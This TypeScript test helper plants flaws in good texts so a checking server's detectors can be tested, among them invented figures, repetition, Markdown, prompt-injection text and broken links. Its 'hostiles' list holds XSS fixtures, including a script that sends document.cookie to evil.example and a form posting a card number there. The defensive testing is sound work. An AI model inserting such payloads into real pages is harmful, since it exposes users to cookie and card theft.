import type { NewFinding } from '@tintario/contract/findings/findings.ts'
import { isSameAmount } from '@tintario/prose/quantities/amount.ts'
import { quantitiesIn } from '@tintario/prose/quantities/quantities-in.ts'
import { sentencesOf } from '@tintario/prose/sentences.ts'
import { applyFix } from '../../../apps/server/src/features/checks/apply-fix.ts'
import type { Checked } from '../../../apps/server/src/features/checks/checked.ts'
import { type Block, readText, tidy } from '../../../apps/server/src/features/checks/read-text.ts'
import { checkedOf } from './checked-of.ts'
import type { GoodText } from './good-text.ts'
import { planted } from './planted.ts'

/** A good text with one thing made worse by code. `touched` are the sentences that were put in or changed. */
export type Mutation = {
  text: string
  kind: string
  checked: Checked
  touched: string[]
  checks: NewFinding['check'][]
}

/** Numbers from 0 to 1 that are the same for the same word. */
const randomOf = (word: string) => {
  let state = 2_166_136_261
  for (const letter of word) state = Math.imul(state ^ letter.charCodeAt(0), 16_777_619)
  return () => {
    state = Math.imul(state ^ (state >>> 15), 2_246_822_519) + 0x9e3779b9
    return ((state ^ (state >>> 13)) >>> 0) / 2 ** 32
  }
}

const plainOf = (html: string) => tidy(html.replace(/<[^>]*>/g, ''))

/** Puts a sentence after the full stop of one of the longer paragraphs. */
const insert = (html: string, sentence: string, random: () => number): string => {
  const ends = [...html.matchAll(/[.!?]<\/p>/g)].map((match) => match.index + 1)
  const at = ends[1 + Math.floor(random() * (ends.length - 1))] ?? html.length
  return `${html.slice(0, at)} ${sentence}${html.slice(at)}`
}
const insertParagraph = (html: string, paragraph: string, random: () => number): string => {
  const ends = [...html.matchAll(/<\/p>\n/g)].map((match) => match.index + 5)
  const at = ends[Math.floor(random() * ends.length)] ?? html.length
  return `${html.slice(0, at)}${paragraph}\n${html.slice(at)}`
}

/** Sentences whose text stands in the HTML without a tag inside, so that it can be exchanged. */
const plainSentences = (checked: Checked, isFit: (block: Block) => boolean = () => true): string[] =>
  readText(checked.html, checked.language)
    .blocks.filter((block) => block.kind !== 'heading' && block.kind !== 'cell' && isFit(block))
    .flatMap((block) => block.sentences)
    .filter((sentence) => checked.html.split(sentence).length === 2)

export const mutationsOf = (text: GoodText, { withClaims = true, pools = planted } = {}): Mutation[] => {
  const base = checkedOf(text, { withClaims })
  const { language } = text
  const found: Mutation[] = []
  const pool = pools[language]
  let random = randomOf(text.id)
  const pick = <T>(from: readonly T[], count: number): T[] => {
    const rest = [...from]
    const taken: T[] = []
    while (taken.length < count && rest.length > 0)
      taken.push(...rest.splice(Math.floor(random() * rest.length), 1))
    return taken
  }
  const add = (kind: string, checks: NewFinding['check'][], change: Partial<Checked>, touched: string[]) => {
    found.push({ text: text.id, kind, checks, checked: { ...base, ...change }, touched: touched.map(tidy) })
  }
  const addSentences = (
    kind: string,
    checks: NewFinding['check'][],
    sentences: readonly string[],
    count: number,
  ) => {
    random = randomOf(text.id + kind)
    for (const sentence of pick(sentences, count)) {
      const html = insert(base.html, sentence, random)
      add(kind, checks, { html }, sentencesOf(plainOf(sentence), language))
    }
  }
  const known = [
    ...base.sources.map((source) => source.text),
    ...base.facts.map((fact) => fact.quote),
  ].flatMap((one) => quantitiesIn(one, language))

  addSentences('invented figure', ['figure'], pool.figures, 4)
  addSentences('study', ['study'], pool.studies, 3)
  addSentences('quotation', ['quotation'], pool.quotations, 3)
  addSentences('brand, person, place', ['name'], pool.names, 4)
  addSentences('health, money, law', ['health'], pool.health, 4)
  addSentences('word on being a model', ['chatter'], pool.model, 2)
  addSentences('placeholder', ['chatter'], pool.placeholders, 2)

  // A figure of the text becomes another one, which no source has; or one that stands elsewhere in them.
  random = randomOf(`${text.id} figures`)
  const figured = plainSentences(base).flatMap((sentence) =>
    quantitiesIn(sentence, language)
      .filter(
        ({ unit, isSmallWord, text: said }) =>
          !isSmallWord && unit !== 'code' && /\d/.test(said) && !(unit === null && said.length < 2),
      )
      .map((amount) => ({ sentence, amount })),
  )
  // The citations stay: a writer that gets a figure wrong still says where it is from.
  const exchange = (kind: string, sentence: string, wanted: string) => {
    const claims = base.claims.map((claim) =>
      claim.sentence === sentence ? { ...claim, sentence: wanted } : claim,
    )
    add(kind, ['figure'], { html: base.html.replace(sentence, () => wanted), claims }, [wanted])
  }
  for (const { sentence, amount } of pick(figured, 5)) {
    const digits = /\d+/.exec(amount.text)
    if (!digits) continue
    for (const step of [1, 3, 7, 11, 2, 5]) {
      const said = amount.text.replace(digits[0], String(Number(digits[0]) + step))
      const [read] = quantitiesIn(said, language)
      const isDateTooLarge = amount.unit === 'date' && Number(/\d+/.exec(said)?.[0]) > 28
      const isClock = amount.unit === 'clock' && Number(/\d+/.exec(said)?.[0]) > 23
      if (!read || isDateTooLarge || isClock || known.some((one) => isSameAmount(read, one))) continue
      exchange('changed figure', sentence, sentence.slice(0, amount.at) + said + sentence.slice(amount.end))
      break
    }
  }
  const swapped = figured.flatMap(({ sentence, amount }) => {
    const cited = base.claims
      .filter((claim) => claim.sentence === sentence)
      .flatMap((claim) => claim.support.map((one) => one.quote))
    if (cited.length === 0) return []
    const others = known.filter(
      (one) =>
        one.unit === amount.unit &&
        one.unit !== null &&
        !isSameAmount(one, amount) &&
        !cited.some((quote) => quantitiesIn(quote, language).some((beside) => isSameAmount(one, beside))),
    )
    return others
      .slice(0, 1)
      .map((other) => sentence.slice(0, amount.at) + other.text + sentence.slice(amount.end))
      .map((wanted) => ({ sentence, wanted }))
  })
  for (const { sentence, wanted } of pick(swapped, 2)) exchange('figure from elsewhere', sentence, wanted)
  const units = figured.flatMap(({ sentence, amount }) =>
    Object.entries(pool.units).flatMap(([from, to]) => {
      const said =
        amount.text.endsWith(from) && !/\p{L}/u.test(amount.text.at(-from.length - 1) ?? '')
          ? amount.text.slice(0, -from.length) + to
          : ''
      const [read] = said ? quantitiesIn(said, language) : []
      return read && !known.some((one) => isSameAmount(read, one))
        ? [{ sentence, wanted: sentence.slice(0, amount.at) + said + sentence.slice(amount.end) }]
        : []
    }),
  )
  for (const { sentence, wanted } of pick(units, 3)) exchange('changed unit', sentence, wanted)

  random = randomOf(`${text.id} paragraphs`)
  for (const paragraph of pick(pool.foreign, 3))
    add(
      'foreign paragraph',
      ['language'],
      { html: insertParagraph(base.html, `<p>${paragraph}</p>`, random) },
      [paragraph, ...sentencesOf(paragraph, language)],
    )

  const long = plainSentences(base, (block) => block.kind === 'paragraph').filter(
    (sentence) => sentence.split(' ').length >= 11,
  )
  for (const sentence of pick(long, 2))
    add('repeated sentence', ['repetition'], { html: insert(base.html, sentence, random) }, [sentence])
  for (const sentence of pick(long, 2)) {
    const words = sentence.replace(/[.!?]$/, '').split(' ')
    const nearly = [pool.nearly, words[0]?.toLowerCase(), ...words.slice(1)].join(' ')
    add('nearly repeated sentence', ['repetition'], { html: insert(base.html, `${nearly}.`, random) }, [
      `${nearly}.`,
      sentence,
    ])
  }
  const keyword = text.title.split(/[:,]/)[0]?.split(' ').slice(-4).join(' ').toLowerCase() ?? ''
  for (const make of pool.stuffing) {
    const sentence = make(keyword)
    add('stuffing', ['repetition'], { html: insert(base.html, sentence, random) }, [sentence])
  }
  let stuffed = base.html
  const stuffedSentences: string[] = []
  for (const sentence of plainSentences(base, (block) => block.kind === 'paragraph').filter(
    (_, at) => at % 3 === 0,
  )) {
    const wanted = sentence.replace(/[.]$/, ` ${pool.tail} ${keyword}.`)
    stuffed = stuffed.replace(sentence, () => wanted)
    stuffedSentences.push(wanted)
  }
  add('stuffing', ['repetition'], { html: stuffed }, stuffedSentences)
  for (const sentence of pick(pool.earlier, 2))
    add(
      'sentence of an earlier post',
      ['sameness'],
      { html: insert(base.html, sentence, random), earlier: pool.earlier },
      [sentence],
    )

  for (const preamble of pick(pool.preambles, 3))
    add(
      'preamble',
      ['chatter'],
      { html: `<p>${preamble}</p>\n${base.html}` },
      sentencesOf(preamble, language),
    )
  for (const farewell of pick(pool.farewells, 1))
    add(
      'preamble',
      ['chatter'],
      { html: `${base.html}\n<p>${farewell}</p>` },
      sentencesOf(farewell, language),
    )
  const [bold = '', second = ''] = pick(long, 2)
  const starred = bold.replace(/^(\S+ \S+)/, '**$1**')
  add('Markdown', ['chatter'], { html: base.html.replace(bold, () => starred) }, [starred])
  const hashed = `## ${pool.heading}`
  add('Markdown', ['chatter'], { html: insertParagraph(base.html, `<p>${hashed}</p>`, random) }, [hashed])
  add('Markdown', ['chatter'], { html: `<p>\`\`\`html</p>\n${base.html}` }, ['```html'])
  const linked = second.replace(/^(\S+ \S+)/, '[$1](page)')
  add('Markdown', ['chatter'], { html: base.html.replace(second, () => linked) }, [linked])
  add(
    '<think>',
    ['chatter', 'html'],
    { html: `<think>${pool.thought}</think>${base.html}` },
    sentencesOf(pool.thought, language),
  )

  for (const hostile of pick(hostiles, 5))
    add('hostile HTML', ['html', 'link'], { html: insertParagraph(base.html, hostile, random) }, [
      plainOf(hostile),
    ])

  for (const { order, obeyed } of pool.injections) {
    const sources = base.sources.map((source, at) =>
      at === base.sources.length - 1 ? { ...source, text: `${source.text}\n${order}` } : source,
    )
    add(
      'followed injection',
      ['chatter', 'name', 'link', 'figure', 'study', 'health'],
      { sources, html: insert(base.html, obeyed, random) },
      sentencesOf(plainOf(obeyed), language),
    )
  }

  const links = [...base.html.matchAll(/<a href="([^"]*)">([^<]*)<\/a>/g)]
  for (const [at, [whole, address = '', words = '']] of links.entries()) {
    const sentence = plainSentencesWith(base, words)
    const make = (kind: string, html: string) =>
      add(kind, ['link'], { html: base.html.replace(whole, () => html) }, [sentence])
    make(
      'foreign link',
      `<a href="${['https://shop.example.net/deal', `${address}?ref=partner`][at % 2]}">${words}</a>`,
    )
    make('lost link', [`<a>${words}</a>`, `<a href="">${words}</a>`][at % 2] ?? '')
  }

  for (const { kind, text: wish, kept, broken } of text.wishes) {
    if (kind === 'must' && kept) {
      let { html } = base
      for (const block of readText(base.html, language).blocks)
        for (const sentence of block.sentences)
          if (kept.some((part) => sentence.includes(part))) html = withoutSentence(html, sentence)
      add('dropped must', ['must', 'wish', 'link'], { html }, [])
    }
    if (kind === 'format' && /tabl/i.test(wish))
      add('dropped must', ['must'], { html: base.html.replace(/<table>[\s\S]*?<\/table>\n/, '') }, [])
    if (broken)
      for (const _ of [1, 2])
        add('broken must-not', ['must-not', 'name'], { html: insert(base.html, broken, random) }, [broken])
  }
  for (const refusal of pick(pool.refusals, 3))
    add('refusal', ['refusal'], { html: `<p>${refusal}</p>` }, sentencesOf(refusal, language))
  return found
}

const plainSentencesWith = (checked: Checked, words: string): string =>
  readText(checked.html, checked.language)
    .links.find((link) => link.text === words)
    ?.block?.sentences.find((sentence) => sentence.includes(words)) ?? words

const withoutSentence = (html: string, sentence: string): string =>
  applyFix(html, { check: 'must', sentence, heading: null, values: {}, fix: { act: 'remove' } })

const hostiles = [
  '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
  '<p>See <a href="javascript:alert(1)">the offer</a>.</p>',
  '<p onclick="steal()">The best part comes last.</p>',
  '<img src="https://evil.example/pixel.gif" alt="">',
  '<iframe src="https://evil.example/"></iframe>',
  '<h1>Another title</h1>',
  '<p style="position:fixed;inset:0">Over everything.</p>',
  '<style>body{display:none}</style>',
  '<form action="https://evil.example/"><input name="card"></form>',
  '<svg onload="alert(1)"><circle r="4"></circle></svg>',
  '<p>Plain text<!-- hidden note --></p>',
  '<object data="https://evil.example/x.swf"></object>',
  '<div class="promo">Promoted.</div>',
  '<p><a href="data:text/html,hello">here</a></p>',
]
